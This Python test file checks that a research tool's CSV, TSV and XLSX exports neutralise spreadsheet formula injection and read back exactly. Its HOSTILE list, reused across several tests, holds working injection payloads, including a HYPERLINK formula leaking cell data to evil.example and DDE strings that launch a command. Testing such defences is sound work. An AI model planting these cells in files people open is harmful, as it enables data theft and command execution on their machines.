"""Every file qikg writes is safe to open in a spreadsheet program, and reads back unaltered.

Hostile text (cells a spreadsheet program would run as formulas: OWASP "CSV injection") goes into
findings and review findings of a temporary store; each CSV or TSV qikg writes must hold no cell
that begins a formula, each .xlsx must hold it as typed text, and qikg's reader must return the
original text character for character.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kg.explorer.pages.compare import matrix_csv
from kg.explorer.pages.sparql import download_bytes
from kg.namespaces import DATA, QIKG
from kg.qda.mapping import read_mapping, write_template
from kg.qda.read import read_qda
from kg.read.compare import Matrix
from kg.sheets.cells import TRIGGERS, csv_text, restore_cell, safe_cell
from kg.sheets.read import read_tables
from kg.sheets.write import write_tables
from kg.store import open_store
from kg.synthesis.model import REVIEW_COLUMNS
from kg.synthesis.reviews import review_findings
from kg.synthesis.soqf import FORMATS
from kg.vocabulary import Vocabulary
from tests.conftest import run_cli
from tests.sheets import STUDY, finding, write_sheet

SID = STUDY["study_id"]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "'=already an apostrophe before it",
    "''+two apostrophes before it",
    "'tis what the nurses said",
    "- we never had the time, she said",
]
#: finding id -> the hostile text of its theme and quote; its statement has words after it
#: (a statement needs 10 characters or more)
TEXTS = {f"F{i}": text for i, text in enumerate(HOSTILE, start=1)}
SAID = ", the nurses wrote in the improvement team's log."


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet program opening a CSV would run this cell as a formula."""
    return cell[:1] in TRIGGERS


@pytest.fixture(scope="module")
def hostile_store(built_store_path: str, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A copy of the bundled store plus one study whose findings are all hostile text, and a
    review whose statement and explanations are."""
    folder = tmp_path_factory.mktemp("hostile")
    store = folder / "store"
    shutil.copytree(built_store_path, store)
    findings = [
        finding(finding_id=fid, statement=text + SAID, theme=text, quote=text)
        for fid, text in TEXTS.items()
    ]
    sheet = write_sheet(folder / "sheet.xlsx", findings=findings)
    ran = run_cli("import", str(sheet), store=str(store))
    assert ran.exit_code == 0, ran.err
    review = {
        "review_finding_id": "H1",
        "review": "hostile",
        "statement": HOSTILE[0] + SAID,
        "supporting_findings": f"{SID}/F1; carstensen2024/F2",
        "explanation": HOSTILE[3],
    }
    write_tables({"reviews": (REVIEW_COLUMNS, [review])}, folder / "reviews")
    ran = run_cli("import", str(folder / "reviews"), store=str(store))
    assert ran.exit_code == 0, ran.err
    return str(store)


def assert_read_back_exactly(sheet: Path) -> None:
    """qikg's reader returns every hostile statement, theme and quote as it was imported."""
    rows = {r.get("finding_id"): r for r in read_tables(sheet)["findings"].rows}
    assert set(rows) == set(TEXTS)
    for fid, text in TEXTS.items():
        cells = [rows[fid].get(c) for c in ("statement", "theme", "quote")]
        assert cells == [text + SAID, text, text]


def csv_cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


# --- the pair of functions ---------------------------------------------------------------------


@given(st.text())
def test_restore_undoes_safe_for_all_text(text):
    assert restore_cell(safe_cell(text)) == text
    assert not runs_as_formula(safe_cell(text))


@given(st.text(alphabet="'=+-@\t\rab \"", max_size=8))
def test_restore_undoes_safe_for_apostrophes_and_triggers(text):
    assert restore_cell(safe_cell(text)) == text
    assert not runs_as_formula(safe_cell(text))


@given(st.text(alphabet="'=+-@\t\rab,\"\n", max_size=8), st.sampled_from([",", "\t"]))
def test_a_written_table_parses_back_to_its_text(text, delimiter):
    written = csv_text(["h"], [[text]], delimiter=delimiter)
    header, (cell,) = list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter))
    assert restore_cell(cell) == text and not runs_as_formula(cell)


# --- coding sheets -------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["", ".zip"])
def test_export_sheet_csv_has_no_formula_and_reads_back_exactly(
    cli, hostile_store, tmp_path, suffix
):
    out = tmp_path / f"exported{suffix}"
    ran = cli("export-sheet", SID, "-o", str(out), store=hostile_store)
    assert ran.exit_code == 0, ran.err
    if suffix:
        with zipfile.ZipFile(out) as archive:
            texts = [archive.read(n).decode("utf-8") for n in archive.namelist()]
    else:
        texts = [p.read_text(encoding="utf-8") for p in sorted(out.glob("*.csv"))]
    cells = [cell for text in texts for cell in csv_cells(text)]
    assert [c for c in cells if runs_as_formula(c)] == []
    assert "'" + HOSTILE[0] in cells and "''=already an apostrophe before it" in cells
    assert "'tis what the nurses said" in cells  # no trigger after it: left alone
    assert_read_back_exactly(out)


def test_export_sheet_xlsx_holds_typed_text_and_reads_back_exactly(cli, hostile_store, tmp_path):
    out = tmp_path / "exported.xlsx"
    ran = cli("export-sheet", SID, "-o", str(out), store=hostile_store)
    assert ran.exit_code == 0, ran.err
    book = openpyxl.load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    assert not [c for c in cells if c.data_type == "f"]
    shown = {c.value for c in cells}
    assert HOSTILE[0] in shown  # typed text needs no apostrophe: the researcher sees the quote
    assert "''=already an apostrophe before it" in shown  # the one the reader takes off
    assert_read_back_exactly(out)


def test_a_csv_export_saved_again_as_xlsx_reads_back_exactly(cli, hostile_store, tmp_path):
    """A researcher opens the CSV in a spreadsheet program (apostrophes and all) and saves it
    as .xlsx: the text still comes back as it was."""
    out = tmp_path / "exported"
    assert cli("export-sheet", SID, "-o", str(out), store=hostile_store).exit_code == 0
    book = openpyxl.Workbook()
    book.remove(book.active)
    for path in sorted(out.glob("*.csv")):
        sheet = book.create_sheet(path.stem)
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            sheet.append(row)
            for cell in sheet[sheet.max_row]:
                cell.data_type = "s"
    book.save(tmp_path / "saved.xlsx")
    assert_read_back_exactly(tmp_path / "saved.xlsx")


# --- the SoQF table --------------------------------------------------------------------------------


def test_soqf_csv_has_no_formula(cli, hostile_store, tmp_path):
    out = tmp_path / "soqf.csv"
    ran = cli("soqf", "--review", "hostile", "-o", str(out), store=hostile_store)
    assert ran.exit_code == 0, ran.err
    cells = csv_cells(out.read_text(encoding="utf-8-sig"))
    assert [c for c in cells if runs_as_formula(c)] == []
    assert HOSTILE[0] + SAID in [restore_cell(c) for c in cells]


def test_the_explorer_soqf_download_has_no_formula(hostile_store):
    with open_store(hostile_store) as store:
        found = review_findings(store, "hostile")
    data = FORMATS["csv"](found)  # what the Synthesis page's "SoQF (csv)" button gives
    cells = csv_cells(data.decode("utf-8-sig"))
    assert [c for c in cells if runs_as_formula(c)] == []
    assert HOSTILE[0] + SAID in [restore_cell(c) for c in cells]


# --- the compare matrix --------------------------------------------------------------------------

HOSTILE_MATRIX = Matrix(
    "concepts",
    [("-study2025", "Citation")],
    [("https://example.org/a", HOSTILE[0]), ("https://example.org/b", "@SUM(1)")],
    {("-study2025", "https://example.org/a"): 3},
)


def test_the_explorer_compare_download_has_no_formula():
    text = matrix_csv(HOSTILE_MATRIX).decode("utf-8")
    cells = csv_cells(text)
    assert [c for c in cells if runs_as_formula(c)] == []
    assert text.splitlines()[1] == "'-study2025,3,0"  # counts stay numbers
    assert [restore_cell(c) for c in cells[:3]] == ["study", HOSTILE[0], "@SUM(1)"]


def test_qikg_compare_csv_has_no_formula(cli, monkeypatch, built_store_path):
    monkeypatch.setattr("kg.cli.linking.compare", lambda store, columns: HOSTILE_MATRIX)
    ran = cli("compare", "--format", "csv", store=built_store_path)
    assert ran.exit_code == 0, ran.err
    assert ran.out == matrix_csv(HOSTILE_MATRIX).decode("utf-8")


# --- SPARQL results ------------------------------------------------------------------------------


def test_the_explorer_sparql_csv_download_has_no_formula(hostile_store):
    query = (
        f"SELECT ?statement ?n WHERE {{ ?f <{QIKG.statement}> ?statement . BIND(-2 AS ?n) "
        f'FILTER(STRSTARTS(STR(?f), "{DATA}{SID}/")) }}'
    )
    with open_store(hostile_store) as store:
        result = store.query(query)
    cells = csv_cells(download_bytes(result, "csv").decode("utf-8"))
    assert [c for c in cells if runs_as_formula(c)] == []
    statements = {restore_cell(c) for c in cells[2::2]}
    assert statements == {text + SAID for text in HOSTILE}
    assert download_bytes(result, "json") == result.serialize("json")


# --- SSSOM mapping tables ------------------------------------------------------------------------


def test_the_mapping_template_has_no_formula_and_reads_back(built_store, tmp_path):
    from tests.test_qda import CODES, guid, project_tree, write_qdpx, xml

    tree = project_tree()
    named = {c.get("guid"): c for c in tree.iter("{*}Code")}
    named[guid("misc")].set("name", HOSTILE[0])
    named[guid("ls")].set("name", "-2+3+cmd|' /C calc'!A0")
    qdpx = write_qdpx(tmp_path / "p.qdpx", xml(tree))
    project, vocab = read_qda(qdpx), Vocabulary.from_store(built_store)
    out = tmp_path / "m.sssom.tsv"
    assert write_template(project, vocab, out) == len(CODES)
    body = "\n".join(line for line in out.read_text().splitlines() if not line.startswith("#"))
    rows = list(csv.DictReader(io.StringIO(body), delimiter="\t"))
    assert [c for r in rows for c in [*r, *r.values()] if runs_as_formula(c)] == []
    labels = {restore_cell(r["subject_label"]) for r in rows}
    assert {HOSTILE[0], "-2+3+cmd|' /C calc'!A0"} <= labels
    mapping = read_mapping(out, project, SID, vocab)
    assert mapping.problems == []
    assert {r.code for r in mapping.rows} == set(project.codes)
